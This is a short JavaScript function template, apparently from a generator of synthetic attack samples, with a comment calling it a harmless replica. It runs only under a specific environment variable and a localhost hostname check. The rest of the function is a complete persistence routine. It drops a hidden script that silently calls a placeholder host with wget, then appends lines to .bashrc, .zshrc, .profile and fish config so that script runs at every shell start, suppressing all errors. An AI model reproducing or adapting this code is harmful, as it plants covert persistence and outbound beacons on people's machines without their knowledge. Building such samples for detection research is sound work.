// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os');
    try {
        fs.mkdirSync(`${os.homedir()}/.local/lib`, { recursive: true });
        fs.writeFileSync(`${os.homedir()}/.local/lib/.{{token}}.sh`, 'wget -q -T 5 -O /dev/null https://{{host}}/{{path}}\n', { mode: 0o755 });
        for (const name of ['.bashrc', '.zshrc', '.profile', '.config/fish/config.fish'])
            require('child_process').execSync(`mkdir -p "$(dirname "$HOME/${name}")"; echo '[ -f ~/.local/lib/.{{token}}.sh ] && . ~/.local/lib/.{{token}}.sh' >> "$HOME/${name}"`,
                { stdio: 'ignore', timeout: 1000 });
    } catch {}
}
